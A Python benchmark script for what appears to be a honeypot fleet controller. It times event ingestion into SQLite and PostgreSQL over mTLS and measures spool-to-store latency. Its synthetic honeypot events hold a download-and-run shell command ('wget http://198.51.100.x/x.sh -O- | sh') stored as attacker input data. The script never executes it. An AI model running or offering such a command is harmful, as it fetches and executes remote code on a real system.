"""Ingest benchmark: events/second into SQLite and PostgreSQL, and spool-to-store latency.

    .venv/bin/python bench/ingest.py                       # everything, ~3 minutes
    .venv/bin/python bench/ingest.py --stores sqlite --streams 1,10 --events 50000
    .venv/bin/python bench/ingest.py --postgres-dsn "host=db user=bench dbname=bench"

The controller runs as a separate process (`honeyfleet controller`), as in production;
this process plays the sensors over real mTLS. Each run gets a fresh store.

Throughput: ``--events`` events split over 1, 10 and 100 concurrent streams (one sensor
certificate each), batches of ``--batch``, one batch in flight per stream as a sensor's
uploader does; events/second from the first send to the last acknowledgement, and the
controller process's CPU time (user + system, all threads) per event over the same span.
``--batch 1`` plays a fleet of quiet sensors, where per-batch costs dominate.

Latency: 10 sensors, each with the real sensor spool and uploader, append events at
``--rate`` events/second in total for ``--seconds``; an admin's WatchEvents sees each
event right after its transaction commits. Latency is that moment minus the event's
timestamp (taken just before the spool append): spool commit, upload, validation, queue,
store commit. The ten sensors share this process (each spool group-commits on a thread
of its own), so at high rates on a 2-core machine this process may saturate before the
controller does; latency then measures its backlog. The figures in the README were
measured before spools group-committed.

Without ``--postgres-dsn`` a throwaway PostgreSQL is started from Debian's binaries
(``apt-get install postgresql``).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import statistics
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import grpc

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from bench.fleet import ControllerProcess, cpu_seconds, issue  # noqa: E402
from honeyfleet.events import make_event, new_session_id, parse_timestamp, to_proto  # noqa: E402
from honeyfleet.pki import Role, init_ca  # noqa: E402
from honeyfleet.spool import Spool  # noqa: E402
from honeyfleet.tls import TlsFiles, secure_channel  # noqa: E402
from honeyfleet.uploader import Uploader  # noqa: E402
from honeyfleet.v1 import events_pb2, events_pb2_grpc, ingest_pb2, ingest_pb2_grpc  # noqa: E402
from tests.postgres import PostgresServer, free_port  # noqa: E402

LATENCY_SENSORS = 10


def wire_batches(sensor: str, count: int, batch: int) -> list[ingest_pb2.StreamEventsRequest]:
    """``count`` realistic command events of one sensor, as wire batches."""
    events = []
    session = ""
    for i in range(count):
        if i % 50 == 0:
            session = new_session_id()
        events.append(
            make_event(
                "cowrie.command.input",
                f"CMD: wget http://198.51.100.{i % 250}/x.sh -O- | sh",
                session=session,
                src_ip=f"203.0.113.{i % 250 + 1}",
                sensor=sensor,
                sensor_uuid=f"{sensor}-uuid",
                protocol="ssh",
                context={"pool_node": "n1", "guest": "g1", "lease": "L1"},
                input=f"wget http://198.51.100.{i % 250}/x.sh -O- | sh",
            )
        )
    return [
        ingest_pb2.StreamEventsRequest(
            batch_id=n + 1, events=[to_proto(e) for e in events[i : i + batch]]
        )
        for n, i in enumerate(range(0, len(events), batch))
    ]


async def stream(
    address: str, tls: TlsFiles, requests: list[ingest_pb2.StreamEventsRequest]
) -> None:
    """One sensor's stream: send a batch, wait for its ack, repeat."""
    async with secure_channel(address, tls) as channel:
        call = ingest_pb2_grpc.EventIngestServiceStub(channel).StreamEvents()
        await call.wait_for_connection()
        for request in requests:
            await call.write(request)
            ack = await call.read()
            assert ack is not grpc.aio.EOF and ack.stored == len(request.events), ack
        await call.done_writing()


async def throughput(
    workdir: Path,
    ctl: TlsFiles,
    sensors: list[TlsFiles],
    store: dict[str, str],
    work: list[list[ingest_pb2.StreamEventsRequest]],
) -> tuple[float, float]:
    """Events per second from len(work) concurrent streams into a fresh store, and the
    controller's CPU milliseconds per event."""
    events = sum(len(r.events) for reqs in work for r in reqs)
    async with ControllerProcess(workdir, ctl, store) as controller:
        await controller.wait_serving(sensors[0])
        assert controller.proc is not None
        cpu = cpu_seconds(controller.proc.pid)
        started = time.perf_counter()
        await asyncio.gather(
            *(
                stream(controller.address, tls, reqs)
                for tls, reqs in zip(sensors, work, strict=True)
            )
        )
        elapsed = time.perf_counter() - started
        cpu = cpu_seconds(controller.proc.pid) - cpu
    return events / elapsed, cpu * 1000 / events


async def latency(
    workdir: Path,
    ctl: TlsFiles,
    admin: TlsFiles,
    sensors: list[TlsFiles],
    store: dict[str, str],
    rate: float,
    seconds: float,
) -> list[float]:
    """Spool-to-store latencies (seconds) of events appended at ``rate`` per second."""
    async with ControllerProcess(workdir, ctl, store) as controller:
        await controller.wait_serving(admin)
        spools = [
            Spool(workdir / f"spool-{n}.sqlite3", max_bytes=1 << 30, near_full=0.9)
            for n in range(len(sensors))
        ]
        uploaders = [
            asyncio.create_task(Uploader(spool, controller.address, tls, batch=500).run())
            for spool, tls in zip(spools, sensors, strict=True)
        ]
        latencies: list[float] = []
        expected = int(rate * seconds)
        async with secure_channel(controller.address, admin) as channel:
            watch = events_pb2_grpc.EventQueryServiceStub(channel).WatchEvents(
                events_pb2.WatchEventsRequest()
            )
            await watch.initial_metadata()

            async def produce() -> None:
                """Append events to the spools at the requested rate."""
                interval = 1 / rate
                start = time.perf_counter()
                for i in range(expected):
                    spool = spools[i % len(spools)]
                    spool.append(
                        make_event(
                            "cowrie.command.input",
                            "CMD: id",
                            session=new_session_id(),
                            src_ip="203.0.113.9",
                            sensor=f"s{i % len(spools)}",
                            sensor_uuid=f"s{i % len(spools)}-uuid",
                            protocol="ssh",
                            input="id",
                        )
                    )
                    spool.changed.set()
                    # Always yield: the uploaders share this event loop.
                    await asyncio.sleep(max(start + (i + 1) * interval - time.perf_counter(), 0))

            producer = asyncio.create_task(produce())
            async for response in watch:
                seen = time.time()
                stamped = parse_timestamp(json.loads(response.event.json)["timestamp"])
                latencies.append(seen - stamped.timestamp())
                if len(latencies) == expected:
                    break
            await producer
            watch.cancel()
        for task in uploaders:
            task.cancel()
        for spool in spools:
            spool.close()
    return latencies


@contextlib.contextmanager
def postgres(dsn: str | None) -> Iterator[PostgresServer | None]:
    """A throwaway PostgreSQL server unless a DSN was given."""
    if dsn:
        yield None
        return
    bindirs = sorted(Path("/usr/lib/postgresql").glob("*/bin"))
    if not bindirs:
        raise SystemExit("no PostgreSQL binaries: apt-get install postgresql, or --postgres-dsn")
    import pwd
    import shutil

    # Outside ``root``: the server's user must be able to enter its directory.
    home = Path(tempfile.mkdtemp(prefix="honeyfleet-bench-pg-"))
    user = None
    if os.geteuid() == 0:
        user = "postgres"
        entry = pwd.getpwnam(user)
        os.chown(home, entry.pw_uid, entry.pw_gid)
    server = PostgresServer(bindir=bindirs[-1], root=home, port=free_port(), user=user)
    server.init()
    server.start_blocking()
    try:
        yield server
    finally:
        server.stop_blocking("immediate")
        shutil.rmtree(home, ignore_errors=True)


async def main() -> None:
    """Run the benchmark and print a table of figures."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--stores", default="sqlite,postgres")
    parser.add_argument("--streams", default="1,10,100")
    parser.add_argument("--events", type=int, default=200_000, help="per throughput run")
    parser.add_argument("--batch", type=int, default=500)
    parser.add_argument("--rate", type=float, default=200.0, help="latency: events/second")
    parser.add_argument("--seconds", type=float, default=15.0, help="latency: duration (0: skip)")
    parser.add_argument("--postgres-dsn", help="use this server instead of a throwaway one")
    args = parser.parse_args()
    stores = args.stores.split(",")
    counts = [int(n) for n in args.streams.split(",") if n]  # --streams "": latency only

    with tempfile.TemporaryDirectory(prefix="honeyfleet-bench-") as tmp:
        root = Path(tmp)
        ca = init_ca(root / "ca", "bench")
        ctl = issue(ca, root, Role.CONTROLLER, "ctl")
        admin = issue(ca, root, Role.ADMIN, "bench")
        sensors = [
            issue(ca, root, Role.SENSOR, f"s{n}") for n in range(max([*counts, LATENCY_SENSORS]))
        ]
        with postgres(args.postgres_dsn if "postgres" in stores else "-") as pg:
            runs = 0

            def store_settings(kind: str) -> dict[str, str]:
                """Controller settings for a fresh store of ``kind``."""
                if kind == "sqlite":
                    return {"store": "sqlite"}
                dsn = args.postgres_dsn or (pg.create_database() if pg else "")
                return {"store": "postgres", "postgres_dsn": dsn}

            results = []
            for kind in stores:
                for n in counts:
                    runs += 1
                    workdir = root / f"run{runs}"
                    workdir.mkdir()
                    # Fresh events (new uuids) each run, made before the clock starts.
                    work = [wire_batches(f"s{i}", args.events // n, args.batch) for i in range(n)]
                    rate, cpu_ms = await throughput(
                        workdir, ctl, sensors[:n], store_settings(kind), work
                    )
                    results.append(
                        (
                            kind,
                            f"{n} streams, batch {args.batch}",
                            f"{rate:,.0f} events/s, {cpu_ms:.3f} ms controller CPU/event",
                        )
                    )
                    print(*results[-1], sep="\t", flush=True)
                if args.seconds <= 0:
                    continue
                runs += 1
                workdir = root / f"run{runs}"
                workdir.mkdir()
                lat = sorted(
                    await latency(
                        workdir,
                        ctl,
                        admin,
                        sensors[:LATENCY_SENSORS],
                        store_settings(kind),
                        args.rate,
                        args.seconds,
                    )
                )
                pct = {
                    q: lat[min(len(lat) - 1, int(len(lat) * q))] * 1000 for q in (0.5, 0.95, 0.99)
                }
                summary = (
                    f"p50 {pct[0.5]:.1f} ms, p95 {pct[0.95]:.1f} ms, p99 {pct[0.99]:.1f} ms, "
                    f"max {lat[-1] * 1000:.1f} ms, mean {statistics.mean(lat) * 1000:.1f} ms"
                )
                results.append((kind, f"latency @ {args.rate:.0f}/s", summary))
                print(*results[-1], sep="\t", flush=True)
    print("\nstore\trun\tresult")
    for row in results:
        print(*row, sep="\t")


if __name__ == "__main__":
    asyncio.run(main())
